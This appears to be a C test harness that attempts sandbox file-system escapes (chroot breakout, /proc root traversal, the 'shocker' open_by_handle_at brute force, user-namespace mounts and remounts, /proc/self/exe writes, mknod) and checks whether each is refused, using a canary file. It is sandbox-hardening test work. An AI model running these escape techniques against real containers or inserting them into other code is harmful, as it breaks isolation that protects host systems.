/* SPDX-License-Identifier: MIT */
/* Attacks on the file system of a session: ways back to the host's root, and what mounts of one's own could undo. */
#include "attack.h"

#include <dirent.h>
#include <fcntl.h>
#include <sched.h>
#include <stdint.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>

#define NR_OPEN_TREE_ATTR 467

static int found(int directory, const char *path)
{
	int fd = openat(directory, path, O_RDONLY | O_CLOEXEC);

	return success(fd);
}

/* argument of these: the canary's path without its first slash. */
static int run_chroot_break(const char *argument)
{
	char directory[] = "/tmp/breakXXXXXX";

	if (mkdtemp(directory) == NULL)
		return errno;
	int here = open("/", O_RDONLY | O_DIRECTORY);
	int r = success(chroot(directory));
	rmdir(directory);
	if (r != 0)
		return r;
	if (fchdir(here) < 0)
		return errno;
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			return errno;
	if (chroot(".") < 0)
		return errno;
	return found(AT_FDCWD, argument);
}

static int run_chroot(const char *argument)
{
	(void)argument;
	return success(chroot("/"));
}

static int run_fd_walk(const char *argument)
{
	char path[4096] = "";

	for (int i = 0; i < 64; i++)
		strcat(path, "../");
	snprintf(path + strlen(path), sizeof(path) - strlen(path), "%s", argument);
	for (int fd = 0; fd < 1024; fd++) {
		if (fcntl(fd, F_GETFD) < 0)
			continue;
		if (openat(fd, path, O_RDONLY) >= 0)
			return 0;
		if (fchdir(fd) == 0 && open(path, O_RDONLY) >= 0)
			return 0;
	}
	return found(AT_FDCWD, path);
}

/* /proc/PID/{root,cwd}/CANARY and /proc/PID/fd/N/../../CANARY of every process that can be seen. */
static int run_proc_roots(const char *argument)
{
	static const char *const ways[] = {"root", "cwd/../../../../../../..", "task/self/root"};
	DIR *proc = opendir("/proc");
	char path[4096];
	int tried = 0;

	if (proc == NULL)
		return errno;
	for (struct dirent *entry; (entry = readdir(proc)) != NULL;) {
		if (strspn(entry->d_name, "0123456789") == 0 && strncmp(entry->d_name, "self", 4) != 0 &&
		    strncmp(entry->d_name, "thread-self", 11) != 0)
			continue;
		for (size_t i = 0; i < sizeof(ways) / sizeof(*ways); i++) {
			snprintf(path, sizeof(path), "/proc/%s/%s/%s", entry->d_name, ways[i], argument);
			tried++;
			if (open(path, O_RDONLY) >= 0)
				return 0;
		}
	}
	return tried > 0 ? ENOENT : EIO;
}

/* The shocker: a handle is nothing but a number, and 2 is the root of an ext4. */
static int run_handle(const char *argument)
{
	struct {
		struct file_handle handle;
		unsigned char bytes[8];
	} guess = {.handle = {.handle_bytes = 8, .handle_type = 1}, .bytes = {2}};
	int mount = open(*argument ? argument : "/", O_RDONLY | O_DIRECTORY);
	int last = ENOENT;

	for (unsigned inode = 1; inode <= 256; inode++) {
		memcpy(guess.handle.f_handle, &inode, sizeof(inode));
		if (open_by_handle_at(mount, &guess.handle, O_RDONLY) >= 0)
			return 0;
		last = errno;
		if (last == EPERM || last == ENOSYS)
			break;
	}
	return last;
}

/* ---- mounts. Each in namespaces of its own where those can be had: unprivileged users get at mounts that way. ---- */
static void write_file(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);

	if (fd >= 0) {
		ssize_t ignored = write(fd, text, strlen(text));
		(void)ignored;
		close(fd);
	}
}

static void own_namespaces(void)
{
	char map[64];
	uid_t uid = getuid();

	if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWNET) == 0) {
		snprintf(map, sizeof(map), "0 %u 1", uid);
		write_file("/proc/self/setgroups", "deny");
		write_file("/proc/self/uid_map", map);
	}
	mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
}

static int run_mount(const char *argument)
{
	char directory[] = "/tmp/mountXXXXXX", options[128] = "";

	own_namespaces();
	if (mkdtemp(directory) == NULL)
		return errno;
	if (strcmp(argument, "overlay") == 0)
		snprintf(options, sizeof(options), "lowerdir=/tmp:/usr");
	int r = success(mount("none", directory, argument, 0, options));
	umount2(directory, MNT_DETACH);
	rmdir(directory);
	return r;
}

/* A user namespace of one's own needs a pid namespace of its own to mount proc. */
static int run_mount_proc(const char *argument)
{
	int status = 0;

	(void)argument;
	own_namespaces();
	unshare(CLONE_NEWPID);
	pid_t pid = fork();
	if (pid == 0)
		_exit(success(mount("proc", "/proc", "proc", 0, NULL)));
	waitpid(pid, &status, 0);
	return WEXITSTATUS(status);
}

static int run_bind(const char *argument)
{
	own_namespaces();
	return success(mount(argument, argument, NULL, MS_BIND | MS_REC, NULL));
}

static int run_remount(const char *argument)
{
	own_namespaces();
	mount(argument, argument, NULL, MS_BIND, NULL);
	/* Without the flags that are locked to it. */
	return success(mount(NULL, argument, NULL, MS_REMOUNT | MS_BIND | MS_NOSUID | MS_NODEV, NULL));
}

/* Whether a mount that is there, a mask, can be taken away: argument is its place. */
static int run_unmask(const char *argument)
{
	own_namespaces();
	return refusal(umount2(argument, MNT_DETACH));
}

static int run_umount_root(const char *argument)
{
	(void)argument;
	own_namespaces();
	return refusal(umount2("/", MNT_DETACH));
}

static int run_pivot_root(const char *argument)
{
	(void)argument;
	own_namespaces();
	return refusal(syscall(SYS_pivot_root, "/tmp", "/tmp"));
}

static int run_cgroup_v1(const char *argument)
{
	(void)argument;
	if (unshare(CLONE_NEWNS) < 0)
		unshare(CLONE_NEWUSER | CLONE_NEWCGROUP | CLONE_NEWNS);
	mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
	return success(mount("cgroup", "/tmp", "cgroup", 0, "pids"));
}

static int run_open_tree(const char *argument)
{
	(void)argument;
	return success(syscall(SYS_open_tree, AT_FDCWD, "/tmp", OPEN_TREE_CLOEXEC));
}

static int run_open_tree_attr(const char *argument)
{
	(void)argument;
	return success(syscall(NR_OPEN_TREE_ATTR, AT_FDCWD, "/tmp", OPEN_TREE_CLOEXEC, NULL, 0));
}

static int run_fsopen(const char *argument)
{
	own_namespaces();
	return success(syscall(SYS_fsopen, *argument ? argument : "tmpfs", 0));
}

static int run_move_mount(const char *argument)
{
	(void)argument;
	own_namespaces();
	return refusal(syscall(SYS_move_mount, -1, "", -1, "", 0));
}

static int run_fsmount(const char *argument)
{
	(void)argument;
	own_namespaces();
	return refusal(syscall(SYS_fsmount, -1, 0, 0));
}

static int run_fsconfig(const char *argument)
{
	(void)argument;
	return refusal(syscall(SYS_fsconfig, -1, FSCONFIG_SET_FLAG, "ro", NULL, 0));
}

static int run_fspick(const char *argument)
{
	(void)argument;
	own_namespaces();
	return refusal(syscall(SYS_fspick, AT_FDCWD, "/", 0));
}

static int run_mount_setattr(const char *argument)
{
	struct mount_attr attr = {.attr_clr = MOUNT_ATTR_NOATIME};

	(void)argument;
	own_namespaces();
	return refusal(syscall(SYS_mount_setattr, -1, "", AT_EMPTY_PATH, &attr, sizeof(attr)));
}

/* ---- one's own executable, and another's ---- */
static int run_exe_path(const char *argument)
{
	char path[64], target[4096];

	snprintf(path, sizeof(path), "/proc/%s/exe", *argument ? argument : "self");
	return success(readlink(path, target, sizeof(target)));
}

static int run_exe_write(const char *argument)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/%s/exe", *argument ? argument : "self");
	int fd = open(path, O_WRONLY);
	/* ETXTBSY: it is refused as long as it runs, and no longer. */
	return fd < 0 && errno != ETXTBSY ? errno : 0;
}

static int run_write_over(const char *argument)
{
	return success(open(argument, O_WRONLY | O_APPEND));
}

static int run_mknod(const char *argument)
{
	unsigned major_number = 0, minor_number = 0;
	char type = 0, path[] = "/tmp/nodeXXXXXX";

	if (sscanf(argument, "%c,%u,%u", &type, &major_number, &minor_number) != 3)
		return EINVAL;
	if (mkdtemp(path) == NULL || chdir(path) < 0)
		return errno;
	int r = success(
		mknod("node", (mode_t)(type == 'b' ? S_IFBLK : S_IFCHR) | 0600, makedev(major_number, minor_number)));
	unlink("node");
	rmdir(path);
	return r;
}

static int run_open(const char *argument)
{
	return success(open(argument, O_RDONLY | O_NONBLOCK));
}

static const struct attack attacks[] = {{"chroot_break", run_chroot_break},
                                        {"chroot", run_chroot},
                                        {"fd_walk", run_fd_walk},
                                        {"proc_roots", run_proc_roots},
                                        {"open_by_handle_at", run_handle},
                                        {"mount", run_mount},
                                        {"mount_proc", run_mount_proc},
                                        {"bind", run_bind},
                                        {"remount", run_remount},
                                        {"unmask", run_unmask},
                                        {"umount_root", run_umount_root},
                                        {"pivot_root", run_pivot_root},
                                        {"cgroup_v1", run_cgroup_v1},
                                        {"open_tree", run_open_tree},
                                        {"open_tree_attr", run_open_tree_attr},
                                        {"fsopen", run_fsopen},
                                        {"move_mount", run_move_mount},
                                        {"fsmount", run_fsmount},
                                        {"fsconfig", run_fsconfig},
                                        {"fspick", run_fspick},
                                        {"mount_setattr", run_mount_setattr},
                                        {"exe_path", run_exe_path},
                                        {"exe_write", run_exe_write},
                                        {"write_over", run_write_over},
                                        {"mknod", run_mknod},
                                        {"open", run_open},
                                        {NULL, NULL}};

int main(int argc, char **argv)
{
	return attack_main(attacks, argc, argv);
}
